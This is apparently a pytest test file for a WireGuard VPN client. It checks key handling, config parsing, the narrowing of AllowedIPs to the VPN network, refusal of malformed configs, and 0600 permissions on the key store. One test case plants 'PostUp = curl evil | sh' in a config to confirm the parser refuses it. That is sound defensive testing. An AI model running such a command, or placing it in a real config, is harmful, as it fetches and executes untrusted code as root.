"""The tunnel config, keys and their store, without a network."""

from __future__ import annotations

import ipaddress
import os
import stat

import pytest

from vpn.config import narrow_allowed_ips, parse_config
from vpn.errors import TunnelConfigError
from vpn.keys import generate_key_pair, public_key_of, validate_key
from vpn.store import JoinRecord, TunnelStore

PAIR = generate_key_pair()
SERVER = generate_key_pair()
NET = ipaddress.ip_network("10.0.0.0/24")


def deployed_text(private: str = PAIR.private_key, allowed: str = "10.0.0.0/24") -> str:
    """The deployed network's answer `config`, shaped as REACHABILITY.md describes it."""
    return (
        f"[Interface]\nPrivateKey = {private}\nAddress = 10.0.0.7/24\nDNS = 8.8.8.8, 1.1.1.1\nMTU = 1420\n\n"
        f"[Peer]\nPublicKey = {SERVER.public_key}\nEndpoint = pool.example:51820\n"
        f"AllowedIPs = {allowed}\nPersistentKeepalive = 25\n"
    )


def test_key_pair_is_x25519_and_never_shows_the_private_key() -> None:
    assert public_key_of(PAIR.private_key) == PAIR.public_key
    assert len(PAIR.private_key) == 44 and PAIR.private_key != PAIR.public_key
    assert PAIR.private_key not in repr(PAIR)
    assert validate_key(PAIR.public_key) == PAIR.public_key


@pytest.mark.parametrize("bad", ["", "not a key", "A" * 44, "QUJD", PAIR.public_key[:-2] + "==", "x" * 1000])
def test_a_key_that_is_not_a_key_is_refused(bad: str) -> None:
    with pytest.raises(TunnelConfigError, match="not a WireGuard key"):
        validate_key(bad, "peer PublicKey")


def test_parse_reads_the_deployed_answer_and_drops_dns() -> None:
    config = parse_config(deployed_text())
    assert str(config.address) == "10.0.0.7/24" and config.mtu == 1420
    assert config.dropped_dns == ("8.8.8.8", "1.1.1.1")
    peer = config.peers[0]
    assert (peer.endpoint, peer.persistent_keepalive, peer.public_key) == ("pool.example:51820", 25, SERVER.public_key)
    assert PAIR.private_key not in repr(config)
    rendered = config.render()
    assert "DNS" not in rendered and parse_config(rendered).render() == rendered
    setconf = config.setconf_text()
    assert "Address" not in setconf and "MTU" not in setconf and "DNS" not in setconf
    assert f"PrivateKey = {PAIR.private_key}" in setconf


@pytest.mark.parametrize(
    ("allowed", "expected"),
    [
        ("0.0.0.0/0", ["10.0.0.0/24"]),
        ("0.0.0.0/0, ::/0", ["10.0.0.0/24"]),
        ("10.0.0.0/8", ["10.0.0.0/24"]),
        ("10.0.0.0/24", ["10.0.0.0/24"]),
        ("10.0.0.1/32, 192.168.1.0/24", ["10.0.0.1/32"]),
        ("0.0.0.0/1, 128.0.0.0/1", ["10.0.0.0/24"]),  # the wg-quick trick to dodge a default route
    ],
)
def test_allowed_ips_are_narrowed_to_the_vpn_network(allowed: str, expected: list[str], caplog) -> None:
    narrowed = narrow_allowed_ips(parse_config(deployed_text(allowed=allowed)), NET)
    assert [str(n) for n in narrowed.peers[0].allowed_ips] == expected
    if allowed != "10.0.0.0/24":
        assert "narrowed" in caplog.text


@pytest.mark.parametrize("network", ["0.0.0.0/0", "10.0.0.0/7", "8.8.8.0/24", "::/0"])
def test_a_vpn_network_that_is_not_private_or_too_wide_is_refused(network: str) -> None:
    with pytest.raises(TunnelConfigError, match="refusing to route"):
        narrow_allowed_ips(parse_config(deployed_text()), ipaddress.ip_network(network))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("[Interface]\nAddress = 10.0.0.2/24\n[Peer]\nPublicKey = " + SERVER.public_key, "no PrivateKey"),
        (f"[Interface]\nPrivateKey = {PAIR.private_key}\n[Peer]\nPublicKey = {SERVER.public_key}", "no Address"),
        (f"[Interface]\nPrivateKey = {PAIR.private_key}\nAddress = 10.0.0.2/24\n", "no \\[Peer\\]"),
        ("PrivateKey = x\n", "before any"),
        ("[Wat]\n", "unknown section"),
        ("[Interface]\ngarbage\n", "expected 'Key = value'"),
        (deployed_text().replace("MTU = 1420", "PostUp = curl evil | sh"), "command to run as root"),
        (deployed_text().replace("MTU = 1420", "Colour = red"), "unknown key"),
        (deployed_text().replace("MTU = 1420", "MTU = 99"), "MTU must be"),
        (deployed_text().replace("Address = 10.0.0.7/24", "Address = 10.0.0.300/24"), "Address is malformed"),
        (deployed_text().replace("pool.example:51820", "pool.example"), "Endpoint must be host:port"),
        (deployed_text().replace("pool.example:51820", "pool.example:70000"), "Endpoint must be host:port"),
        (deployed_text(allowed="10.0.0.0/33"), "AllowedIPs has a malformed"),
        (deployed_text(private="secret"), "PrivateKey is not a WireGuard key"),
        (deployed_text() + "\n[Interface]\n", "second \\[Interface\\]"),
        ("[Interface]\n" + "# x\n" * 20000, "larger than"),
    ],
)
def test_malformed_configs_are_refused_with_what_was_wrong(text: str, message: str) -> None:
    with pytest.raises(TunnelConfigError, match=message):
        parse_config(text)


def test_a_private_key_never_appears_in_an_error() -> None:
    with pytest.raises(TunnelConfigError) as caught:
        parse_config(deployed_text(private=PAIR.private_key[:-4] + "!!!="))
    assert PAIR.private_key[:20] not in str(caught.value)


def test_store_keeps_files_0600_and_reads_them_back(tmp_path) -> None:
    store = TunnelStore(tmp_path / "state")
    assert not store.exists()
    pair = store.key_pair()
    assert store.key_pair() == pair  # made once, reused
    config = narrow_allowed_ips(parse_config(deployed_text(allowed="0.0.0.0/0")), NET)
    record = JoinRecord(
        mode="deployed",
        network="10.0.0.0/24",
        pool_address=None,
        endpoint="pool.example:51820",
        joined_at="2026-01-01T00:00:00+00:00",
        pool_generated_key=True,
    )
    store.save(config, record)
    assert store.exists()
    loaded, loaded_record = store.load()
    assert loaded == config and loaded_record == record and loaded_record.vpn_network == NET
    for path in (tmp_path / "state").iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(os.stat(tmp_path / "state").st_mode) == 0o700
    store.forget()
    assert not store.exists() and store.key_pair() == pair


def test_a_state_directory_of_another_user_is_refused(tmp_path) -> None:
    if os.geteuid() != 0:
        pytest.skip("giving a directory to another user needs root")
    other = tmp_path / "someone-elses"
    other.mkdir()
    os.chown(other, 65534, 65534)
    with pytest.raises(TunnelConfigError, match="belongs to uid 65534"):
        TunnelStore(other).key_pair()
    assert list(other.iterdir()) == []
